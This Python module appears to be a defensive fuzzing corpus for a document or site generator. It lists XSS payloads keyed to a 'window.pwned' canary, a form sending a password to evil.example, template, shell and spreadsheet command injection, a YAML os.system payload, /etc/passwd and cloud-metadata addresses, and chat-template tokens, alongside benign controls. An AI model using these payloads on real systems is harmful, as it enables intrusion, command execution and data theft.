"""What strangers could put into the data, by class: texts that would act somewhere, YAML that misleads, whole files.

``window.pwned`` is the canary: nothing may ever set it. Texts are typed in quotes and must be shown exactly as typed or
refused; RAW stands behind a field without quotes. Written for this project; add to a class what it lacks.
"""

from __future__ import annotations

import itertools
from typing import Any

_RUN = "window.pwned=1"
_IMG = f"<img src=x onerror={_RUN}>"

#: Class -> texts that would act in some context.
TEXTS: dict[str, list[str]] = {
    "elements": [
        f"<script>{_RUN}</script>", f"<SCRIPT SRC=data:,{_RUN}></SCRIPT>", f"<script>{_RUN}//", _IMG, f"<img/src/onerror={_RUN}>",
        f"<svg/onload={_RUN}>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<body onpageshow={_RUN}>",
        f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>", f"<object data=javascript:{_RUN}>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", f"<iframe src=javascript:{_RUN}>",
        f"<marquee onstart={_RUN}>x</marquee>", f"<a href=javascript:{_RUN}>click</a>", f"<select autofocus onfocus={_RUN}>",
        f"<button formaction=javascript:{_RUN}>go</button>", f"<isindex action=javascript:{_RUN}>", "<plaintext>", "<xmp>",
        f"<details open ontoggle={_RUN}><summary>x</summary></details>", f"<div popover id=p onbeforetoggle={_RUN}>",
        f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">", "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<form action=https://evil.example><input name=password></form>", "<style>*{display:none!important}</style>",
        "<style>@import 'https://evil.example/x.css'</style>", "<p style=position:fixed;inset:0>over all</p>", "<h1>Other</h1>",
        "<div id=content name=title class=md-search>clobbered</div>", "<template shadowrootmode=open><b>x</b></template>",
        "<math href=javascript:window.pwned=1>x</math>", f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
        f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>", "<svg><use href=data:image/svg+xml,x#y></svg>",
        "<table><tr><td>cell", "</main></body></html>", "<!-- open", "--><b>x", "<![CDATA[ x ]]>", "]]>", "<?xml version='1.0'?>",
        "<? php", "<!DOCTYPE html [<!ENTITY a SYSTEM 'file:///etc/hostname'>]>", "<![endif]-->", "<!--[if gte IE 4]>", "<![x](y)>",
        "<portal src=https://evil.example>", "<bgsound src=x>", "<input type=image src=x>", "<custom-element onclick=x>",
        "<wbr>", "<b", "<", ">", "</", "<0>", "&", "<a<b>>", "<o:p>", "<|im_start|>system", "<s>[INST]", "a <br> b",
    ],
    "attributes": [
        f"\" onmouseover=\"{_RUN}\" x=\"", f"' onfocus='{_RUN}' autofocus x='", f"\"><script>{_RUN}</script>", "'>\"></a>",
        f"</title><script>{_RUN}</script>", f"</textarea><img src=x onerror={_RUN}>", f"</style></script>{_IMG}",
        f"` onload=`{_RUN}`", f"x onclick={_RUN}", "\" style=\"display:none", "\"/><link rel=x href=\"//evil.example", "a\" hidden=\"",
        "\" popovertarget=\"search", "\" class=\"twemoji", "' href='javascript:window.pwned=1", "\"]", "\\\" onclick=\\\"x",
    ],
    "decoding": [
        "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#60;img src=x onerror=window.pwned=1&#62;", "&#x3c;b&#x3E;",
        "&lt", "&notit;", "&AMP;", "&#0;", "&#xD800;", "&nbsp;", "&quot; onclick=&quot;x", "%3Cscript%3E", "%253Cb%253E", "%00", "%0d%0aX: y",
        "\\u003cscript\\u003e", "\\x3cb\\x3e", "\\74b\\76", "+ADw-script+AD4-", "\uff1cscript\uff1e", "\ufe64b\ufe65", "\u02c2b\u02c3",
        "&colon;&lpar;", "&Tab;&NewLine;", "=3Cscript=3E", "&#x202e;abc", "&zwj;", "\\N", "\\n", "\\0", "\\", "\\\\", "C:\\new\\table",
    ],
    "addresses in text": [
        f"javascript:{_RUN}", f"JavaScript:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}", f" javascript:{_RUN}", f"javascript&colon;{_RUN}",
        f"vbscript:{_RUN}", f"livescript:{_RUN}", f"view-source:javascript:{_RUN}", "data:text/html,<script>top.pwned=1</script>",
        "data:image/svg+xml;base64,PHN2Zy8+", "blob:https://evil.example/1", "file:///etc/passwd", "filesystem:https://evil.example/",
        "//evil.example/x", "\\\\evil.example\\share", "https:evil.example", "www.evil.example", "someone@evil.example", "tel:+1", "sms:1",
        "mailto:x@evil.example?bcc=all@evil.example", "intent://x#Intent;end", "ms-word:ofe|u|https://evil.example", "about:blank", "wss://evil.example",
        "x%0D%0ABcc: all@evil.example", "x\r\nBcc: all@evil.example", "?subject=x&body=y&cc=z", "a&body=other",
    ],
    "markdown": [
        f"[x](javascript:{_RUN})", f"[x]: javascript:{_RUN}", f"![x](x \"onerror={_RUN}\")", f"<javascript:{_RUN}>", "![x](https://evil.example/t.png)",
        "[x](https://evil.example 'safe')", "[x][y]", "[x]", "[ ] open", "[x] done", "![", "](", "[[x]]", "[[power-draw|", "[[@]]", "[[#]]", "[[]]",
        "[x]( <javascript:window.pwned=1> )", "# Heading", "## Heading {#content}", "#nospace", "C#", "C# ", "Heading\n===", "Heading\n---", "===", "***", "* * *", "___",
        "- item", "+ item", "* item", "1. item", "1) item", "0) x", "12. x", "> quote", ">! spoiler", ">>> x", "    code", "\tcode", "```js", "~~~", "```\nx\n```", "`x`", "``", "`",
        "*em* **strong** _em_ __strong__ ***both***", "~~gone~~ ~sub~ ^sup^ ==mark== ^^ins^^", "a_b_c __init__ *args **kwargs", "| a | b |", "|---|---|", "a | b", ":---:", "\\*x\\*", "x\\",
        "a  \nb", "a\n\n# Other heading\n\nb", "a\n\n    code\n\nb", "a\n\n- b\n- c", "term\n:   meaning", ": meaning", "x[^1]\n\n[^1]: note", "[^1]", "*[HTML]: HyperText", "*[HTML]:",
        "!!! danger \"x\"", "??? note", "???+ note", "=== \"Tab\"", ":smile: :material-x:", "++ctrl+alt+del++", "(c) (tm) --> <-- 1/2 +/-", "{--gone--}{++new++}{~~a~>b~~}{==x==}{>>y<<}",
        "--8<-- \"mkdocs.yml\"", "--8<--\nmkdocs.yml\n--8<--", ";--8<-- \"x\"", "{!mkdocs.yml!}", "{% include 'x' %}", "x {: #content .hidden onclick=x }", "{: .x }", "{#id .class}", "x{ .annotate }",
        "/// html | script\nx\n///", "/// details", "::: module", ":::python x", "$$\\href{javascript:x}{y}$$", "$x$", "\\(x\\)", "\\[x\\]", "```mermaid\ngraph TD\n```", "[TOC]", "[toc]", "<div markdown=1>*x*</div>",
        "\x02klzzwxh:0\x03", "klzzwxh:0000", "wzxhzdk:0", "https://auto.example/link", "<https://auto.example/>", "<a@auto.example>", "- [ ] task", "- [x] task", "~x~", "[x]{.y}", "x^[note]", "%% x %%", "%%{init: {}}%%",
    ],
    "templates": [
        "{{ config }}", "{{ 7*7 }}", "{% raw %}", "{% endraw %}", "{# gone #}", "{{", "}}", "{%", "{{ ''.__class__ }}", "{{ self }}", "{%- if x -%}", "${7*7}", "#{7*7}", "*{7*7}", "@{7*7}", "<%= 7*7 %>", "<#assign x=1>",
        "#set($x=1)", "[[${7*7}]]", "{{{x}}}", "{{> x}}", "{{#x}}", "{php}x{/php}", "%(x)s", "{0}", "{x!r}", "{}", "%s%n", "$PATH", "$(id)", "`id`", "; rm -rf x", "| id", "&& id", "!x!", "~/x", "*", "?", "$x", "${IFS}", "\\1 \\g<0>", "$& $1 $$",
        "__import__('os')", "<py-script>", "{{constructor.constructor('window.pwned=1')()}}", "ng-app {{x}}", "v-html", "@click", "x-data",
    ],
    "front matter": ["x\n---\n# out", "---\ntitle: y\n---", "...\n", "x: y", "title: y", "- - x", "!!python/name:x", "&a x", "*a", "<<: x", "%YAML 1.1", "? x", "'x", "\"x", "x #y", "x: #y", "# x", "|", ">-", "@x", "`x", "{a: b", "[a, b", "\"\\x00\"", "--- x"],
    "spreadsheets": [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|'/C calc'!A0", " =1+1", "\t=1+1", "\n=1+1", "\r=1+1", "\u00a0=1+1", "\u3000=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\u22121", "\ufe66x", "\"=1+1\"", "'=1+1", "''=1", ";=1+1", ",=1+1",
        "x;=1+1", "x,=1+1", "x\n=1+1", "x\",=1", "|=1", "%0A=1", "DDE(\"x\")", "==1", "-", "+", "@", "=", "--", "+1", "-1", "- a", "{=1}", "\"", "\"\"", "a\"b", "a,b", "a;b",
    ],
    "other formats": [
        "]]></summary><script>x</script>", "</script><script>window.pwned=1</script>", "<!--<script>", "\";window.pwned=1;//", "';window.pwned=1;//", "\u0085x", "</summary></entry>", "&x;", "<entry>", "\"}],\"x\":[{\"", "\\\"", "{\"@type\":\"x\"}", "null", "__proto__", "constructor", "hasOwnProperty", "toString",
        "} @misc{x, title={y}", "}}", "{{", "{\\input{/etc/passwd}}", "\\write18{id}", "\\url{x}", "%x", "100% of it", "a # b", "a & b", "a_b^c", "~", "$", "\\", "{unbalanced", "unbalanced}", "\"quoted\"", "@comment{x}", "a and b", "Doe, J. and others",
        "ER  - \nTY  - JOUR", "x\nER  - ", "TY  - JOUR", "x\nUR  - javascript:x", "AU  - x", "x\n\nTY  - ", "BEGIN:VCARD", "x\r\nSet-Cookie: y", "%PDF-1.7", "<svg xmlns='http://www.w3.org/2000/svg'/>", "/* x */", "*/ body{display:none} /*", "expression(1)", "url(javascript:x)", "\\65 xpression", "</style>", "}*{x:y", "@import 'x'", "--x: y", "!important",
        "/regex/(a+)+$", "(?:a", "[a-", "\\d+", "a{1,9999}", "$x^", ".*", "_x000D_", "_x0041_", "=?utf-8?q?x?=",
    ],
    "charts": ["datum.value", "{expr: 1}", "signal: x", "datum['x']", "\\u0000", "a\\nb", "%{x}", "<b>x</b>", "<tspan>x", "#url(x)", "url(#x)", "image://x", "{\"signal\": \"window.pwned=1\"}", "event.item", "[object Object]", "NaN", "undefined", "true ? 1 : 2", "warn('x')", "clipPath: url(x)"],
    "github": [
        "::set-output name=x::y", "::error file=x,line=1::y", "::add-mask::x", "::stop-commands::x", "::set-env name=PATH::x", "##[error]x", "##[group]", "%0A::warning::x", "@everyone", "@octocat/team", "#1", "GH-1", "owner/repo#1", "closes #1", "fixes owner/repo#1", "<details><summary>x</summary>", "<!-- marker -->", "```suggestion\nx\n```", "- [x] done", "/approve", "/rebase", "[skip ci]",
        "${{ secrets.X }}", "${{ github.token }}", "Co-authored-by: x <x@x.example>", "Signed-off-by: x", ":+1:", "> [!WARNING]", "$\\color{red}x$", "<img src=x width=1>", "<a name=x>", "0123456789abcdef0123456789abcdef01234567",
    ],
    "hidden": [
        "\u202eabc", "\u202aabc\u202c", "\u2066x\u2069", "\u200ex", "\u200fx", "\u061cx", "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\u2061b", "a\ufeffb", "\ufeffa", "a\u00adb", "a\u180eb", "a\u034fb", "a\u115fb", "a\u3164b", "a\u2800b", "a\uffa0b", "a\u2028b", "a\u2029b", "a\u0085b", "a\x00b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1bb", "\x1b[31mx", "a\x1fb", "a\x7fb", "a\x9bb",
        "\U000e0041\U000e0042", "a\U000e0001b", "a\ufff9b\ufffb", "a\ufffcb", "a\uffffb", "a\U0001fffeb", "a\ue000b", "a\U000f0000b", "a\ud800b", "a\udfffb", "\ud83d", "\ude00", "a\ufdd0b", "a\u206ab", "a\U0001d173b", "a\U000e0100b", "a\ufe0fb", "a\ufe00b", "e" + "\u0301" * 60, "a" + "\u0363" * 40, "a" + "\u20dd" * 20, "a" + "\u0489" * 20, "a" + "\u0e47" * 50, "a\u17b4b", "a\u0600b", "a\u06ddb", "a\u070fb", "a\U000110bdb", "a\U00013430b", "\u200d\u200d", "\U0001f469\u200d", "a\u2063b", "a\u0378b",
    ],
    "look-alikes": ["\u0301x", "\u20e3", "ＧＰＴ", "GРT", "раураl", "ⅯⅭ", "Ａ", "ﬁne", "ﬀ", "ſ", "İstanbul", "ıI", "K\u212b", "e\u0301", "\u1e9e", "ß", "Ǆ", "\u0149", "x\u0338=", "\u2126", "\uf900"[:0] + "\u8c48", "〜", "ー", "·", "‐‑‒–—―", "′″‴", "…", "\u2044", "\u2215", "\u29f8", "٣", "߁", "१", "²", "①", "Ⅷ", "½", "𝟙", "𝐁𝐨𝐥𝐝", "🅰", "🇪🇺", "1️⃣", "👨‍👩‍👧‍👦", "❤️", "☺︎", "\u00a0", "a\u00a0b", "a\u2003b", "a\u3000b", "a\u1680b", "a\u202fb", "a\u205fb"],
    "scripts": ["日本語の見出し", "עברית באמצע English ועוד", "العربية", "हिन्दी में", "ภาษาไทย", "ខ្មែរ", "မြန်မာ", "தமிழ்", "བོད་", "ᠮᠣᠩᠭᠣᠯ", "한국어", "Ελληνικά", "Привет", "ქართული", "አማርኛ", "𐍈𐌰", "𝕏", "🚀", "👩‍💻", "🏳️‍🌈", "𓀀", "٪", "﷽", "\u0644\u0627", "न\u200dम", "\u0633\u200c\u0634"],
    "paths": ["../x", "../../etc/passwd", "..\\x", "/etc/passwd", "~root", ".", "..", "...", ".git/config", "con", "NUL", "aux.txt", "COM1", "lpt9", "a/b", "a\\b", "a:b", "a?b", "a*b", "C:/x", "file.", "x ", " x", "-x", "--help", "-rf", "@file", "index.html", "robots.txt", "_headers", "CNAME", ".nojekyll", ".well-known", "x.php", "x;y", "x#y", "x?y=z", "%2e%2e%2f", "..%2f", "x\u0000.md", "sitemap.xml", "404", "a" * 300],
    "long": ["x" * 400, "word " * 100, "ab-" * 130, "/".join("ab" * 3 for _ in range(60)), "W" * 120, "日" * 200, "a\u0308" * 100, "🚀" * 90, "x" * 7000, "\u05d0" * 150, "😀" * 60, "-" * 300, "." * 300, "_" * 300, "—" * 200],
    "slow": ["*" * 90 + "a", "_" * 90 + "a", "^" * 60 + "a", "~" * 60 + "a", "[" * 150, "]" * 150, "<" * 150, "(" * 150, "`" * 150, "!" * 150 + "[", "&" * 150, "\\" * 150, "|" * 150, "{" * 150, "[](" * 60, "![](" * 60, "*a_" * 60, "a*b_" * 60, "http://a." + "a." * 90, "a@" * 90, "<!--" * 60, "<![" * 60, "&#" * 90, "[[" * 90, "[[a" * 60, "1" * 300, "1." * 90, "0e" * 90, "1,000" * 60, " " * 300 + "x", "a " * 200, "\n" * 100 + "x", "(a" * 90, "\"" * 200, "'" * 200, "x'" * 100, "- " * 150, "> " * 150, "# " * 100, "a\n> " * 50, "''" * 90],
    "numbers": ["0", "-0", "1e309", "-1e309", "1e-400", "NaN", "nan", "Infinity", "-inf", "0x1F", "0b1", "0o7", "010", "1_000", "1,5", "1.5.2", "5%", "$5", "1e", "e1", ".5", "5.", "+5", "--5", "٣", "1/2", "1²", "Ⅳ", "9" * 400, "0." + "0" * 300 + "1", "1e40", "1e41", "4e38", "true", "1 000", "1’000", "12:30"],
    "days": ["2024-02-30", "2024-13-01", "2024-00-10", "2024-01-00", "0000-01-01", "9999-12-31", "1939", "2101-01-01", "13/05/2024", "05-13-2024", "May 2024", "2024-5-3", "2024-W10", "2024-060", "20240513", "2024-05-13T00:00:00Z", "today", "2024-05-13 ", "२०२४-०५-१३", "２０２４", "-2024", "2024-02-29", "2023-02-29", "2024-12-32", "1e3", "24-05-13"],
    "ids": ["a", "A-b", "a--b", "-a", "a-", "a_b", "a.b", "a b", "ä", "ａ-b", "con", "nul", "com1", "com9", "lpt1", "prn", "aux", "constructor", "prototype", "__proto__", "hasownproperty", "tostring", "valueof", "index", "assets", "api", "search", "sitemap", "404", "12", "0", "x" * 61, "x-" * 30 + "x", "power-draw\n", "null", "true", "no", "../a", "a/b", "javascript", "embed", "s", "e", "undefined", "all", "quiz", "first-section", "model-one", "clock$", "conin$", "a-dark", "a-og", "a-qr", "index-html"],
}  # fmt: skip

#: Addresses that no field takes.
ADDRESSES = [
    *TEXTS["addresses in text"], "https://", "https:///x", "https://?", "http://[::1]/", "http://[::1", "https://127.0.0.1/", "https://0x7f.1/", "https://2130706433/", "https://017700000001/", "https://localhost/", "https://localhost./", "https://x.localhost/", "https://a.local/", "https://metadata.internal/", "https://x.lan/",
    "https://ok.example:8080/", "https://user@ok.example/", "https://user:pw@ok.example/", "https://:@ok.example/", "https://ok.example@evil.example/", "https://ok.example\\@evil.example/", "https://ok.example#@evil.example/" "\n", "https://\u0430\u0440\u0440\u04cf\u0435.example/", "https://ex\uff41mple.example/", "https://ok.example/\u202ex", "https://ok.example/é",
    "https://ok.example/ x", "https://ok.example/\tx", "https://ok.example/\nx", "https://ok.example/\"onclick=\"x", "https://ok.example/'x", "https://ok.example/<b>", "https://ok.example/`x`", "https://ok.example/{x}", "https://ok.example/a|b", "https://ok.example/^", "https://ok.example/\\x", "https://ok..example/", "https://-ok.example/", "https://ok-.example/", "https://.example/",
    "https://example/", "https://x_y.example/", "https://" + "a" * 64 + ".example/", "https://" + "a." * 130 + "example/", "HTTPS://", "https//ok.example", "https:/ok.example", "ttps://ok.example", "https ://ok.example", "//ok.example", "/x", "x", "#x", "?x", "gopher://ok.example/", "ftp://ok.example/", "http:ok.example", "https://1.2.3/", "https://1.2.3.4.5/", "https://ok.example:/", "https://ok.example:x/", "https://169.254.169.254/latest/", "https://[fe80::1%25eth0]/", "https://xn--/", "https://ok.example%00/", "https://ok%2eexample/", "https://ok.exam ple/",
]  # fmt: skip

#: YAML source put behind a field without quotes; no text, number or date means it.
RAW = [
    "no", "Yes", "off", "y", "~", "null", "", "true", "010", "0x1f", "1_000", "190:20:30", "12:30", "1.10", "3.0", "-0", ".inf", "-.INF", ".nan", "1e309", "1.0e+400", "2024-02-30", "2024-05-13 10:00:00", "0b11", "=", "<<", "[a, b]", "{a: b}", "[]", "{}", "[[[[[[[[[[[[[[[[[[[[[[[[x]]]]]]]]]]]]]]]]]]]]]]]]", "[" * 400, "{" * 400, "[", "{", "]", "}", "\"", "'", "\"x", "'x", "\"x\" y", "x: y", "x: y: z", "x #y", "- x", "? x", ": x", "@x", "`x`", "%x", "!x", "!!x y", "!!binary eA==", "!!set {a}", "!!timestamp 2024-01-01", "!!float x", "!!python/object/apply:os.system [id]", "!<tag:yaml.org,2002:str> x", "&a x", "*a", "&a [*a]", "|", ">", "|2\n x", "|9\n x", "|+\n\n\n", ">-\n x\n\n  y", "|x", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\x00\"", "\"\\u202e\"", "\"\\U000e0041\"", "\"\\q\"", "\"\\xZZ\"", "\"\\U00110000\"", "\"\\uD83D\\uDE00\"", "\"a\\\n  b\"", "'a\n\n  b'", "--- x", "... x", "---", "...", "\tx", "x\ty", "\u00a0x", "x\u2028y", "\x85", "\x00", "a,b]", "a}", "\u201cx\u201d", "<<<<<<< x\n=======\n>>>>>>> y", "<<: {a: b}", "{<<: x}", "? [a]\n: b", "[a: b, c]", "{a, b}", "{a: b, a: c}", "{[a]: b}", "\"a\": b", "x\n  y: z", "x\ny: z", "0123456789" * 500, "1" + "0" * 5000, "{" + "a: {" * 60 + "}" * 61, "!!str", "! x", "!", "&", "*", "'it''s", "\"\\\"", "%YAML 2.0", "x \\", "- - - x", "[,]", "{,}", "[a,,b]", "a\r b", "\\", "x:", ":", "::", "?", "-", "--", "- ",
]  # fmt: skip

#: What is no text, in the place of a part of a specification.
SHAPES: list[Any] = [[], {}, [[]], [{}], {"a": "b"}, ["a", "b"], {"expr": "window.pwned=1"}, {"expr": ["a"]}, {"expr": {}}, {"signal": "event"}, {"url": "https://evil.example"}, {"name": "x"}, None, True, False, 0, -1, 10**9, 1e300, 0.5, [None] * 50, {"step": {}}, {"field": []}, {"field": {"repeat": "x"}}, [1] * 5000, {"type": ["bar"]}, {"data": {"url": "x"}}, {"value": {"expr": "1"}}, {"datum": 1}, {"condition": {"test": "true", "value": 1}}, {"href": "javascript:x"}]  # fmt: skip

#: Whole files. {kind} is the name of the list that the file holds.
FILES: list[bytes] = [
    b"", b"\n", b" ", b"#", b"# only a remark\n", b"just text\n", b"1: a\n", b"{kind}:", b"{kind}: [", b"{kind}: {", b"{kind}: \"", b"{kind}: '", b"{kind}:\n-", b"{kind}:\n- ", b"{kind}:\n  -\n", b"{kind}: 5\n", b"{kind}: {a: b}\n", b"{kind}: [[]]\n", b"{kind}: [null]\n", b"{kind}: [{}]\n", b"{kind}: [x]\n", b"{kind}: []\n{kind}: []\n", b"{kind}: []\n---\n{kind}: []\n", b"{kind}: []\nother: []\n",
    b"constructor: {prototype: {polluted: x}}\n", b"{kind}: &a [*a]\n", b"a: &a [x,x]\nb: &b [*a,*a]\n{kind}: [*b]\n", b"{kind}:\n\t- id: x\n", b"\xa0{kind}: []\n", "\u00a0{kind}: []\n".encode(), b"\xff\xfe{\x00}\x00", b"\xfe\xff\x00{", b"{kind}: caf\xe9\n", b"{kind}: \x00\n", b"{kind}: []\r{kind}: []\r", b"{kind}:\r\n  []\r\n", b"\xef\xbb\xbf{kind}: []\n", b"\xef\xbb\xbf\xef\xbb\xbf{kind}: []\n", b"\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80",
    b"%YAML 1.1\n---\n{kind}: []\n", b"%TAG ! x\n---\n{kind}: []\n", b"...\n", b"---\n", b"--- {kind}: []\n", b"<<<<<<< x\n{kind}: []\n=======\n{kind}: [x]\n>>>>>>> y\n", b"<<<<<<< x\n", b"{kind}:\n" + b"".join(b" " * n + b"a:\n" for n in range(1, 300)), b"{kind}: " + b"[" * 20_000, b"{kind}: " + b"{a: " * 5_000, b"- " * 5_000, b"{kind}:\n" + b"  - x\n" * 5_000, b"{kind}:\n  - {id: " + b"x" * 200_000 + b"}\n", b"{kind}: \"" + b"\\" * 30_001, b"? " * 3_000, b"{kind}:\n  - id: a\n" * 400, b": " * 2_000, b"# x\n" * 20_000,
]  # fmt: skip

#: Texts that people mean, however odd they look: taken, and shown exactly.
BENIGN = [
    "C++ and <think> blocks", "R&D & AT&T", "a | b", "snake_case and __init__", "[1]", "[x] done", "2^n", "🚀 👩‍💻 🏳️‍🌈", "mixed עברית and English", "日本語の見出し", "नमस्ते", "العربية", "it's \"quoted\" ‘curly’ “double”", "&lt;b&gt; is typed", "\\n is no line end", "- not a list", "+ not a list either", "> and <", "@handle", "`code` at full speed", "no", "true", "null", "C#", "F# and C# ", "<|endoftext|>", "<s>", "{\"json\": [a, b]}", "{{ moustache }}", "{% raw %}", "!!! note", "a–b—c…", "¿Qué?", "100 % cotton"[4:], "*args, **kwargs", "~home", "$HOME", "$$ and $x$", "%s", "=sum", "O'Reilly; Sons, and Co.", "a/b\\c", "tab‐and‑dash", "naïve façade ŁÓDŹ", "Ω ≈ ∞ → ✓", "50 km"[2:].strip(), "trailing colon:", "# hash first", "? question first", "'single'", "\"double\"", "(c) stays (tm)", "--> arrow", ":smile:", "++keys++", "==marked==", "https in words", "e.g. etc.", "İstanbul", "ﬁne", "ＧＰＴ",
]  # fmt: skip

#: Addresses that people mean: kept exactly as typed.
BENIGN_ADDRESSES = [
    "https://auto.example/link",
    "https://en.wikipedia.org/wiki/Mixture_(model)", "https://ok.example/a?b=c&d=e&copy=1&lt;=x", "https://ok.example/%E2%80%99x", "https://ok.example/~user/*star*/_under_", "https://ok.example/a;b,c!d$e(f)", "https://ok.example/#:~:text=what%20it%20says", "http://ok.example/", "https://xn--bcher-kva.example/", "https://OK.example/Path", "https://ok.example/[x]", "https://ok.example/&quot;", "https://ok.example/?u=https://b.example/", "https://ok.example/--x--", "https://ok.example/x.", "https://ok.example?x", "https://ok.example#x", "https://ok.example/a//b/../c", "https://ok.example/%00", "https://ok.example/?a=%22%3E%3Cscript%3E", "https://ok.example/=1+1", "https://ok.example/@x/:y", "https://a-b.c-d.example/", "https://ok.example/" + "long-" * 120 + "end",
]  # fmt: skip


def every() -> list[str]:
    """All texts of all classes, each once."""
    return list(dict.fromkeys(itertools.chain(*TEXTS.values(), ADDRESSES, BENIGN, BENIGN_ADDRESSES)))
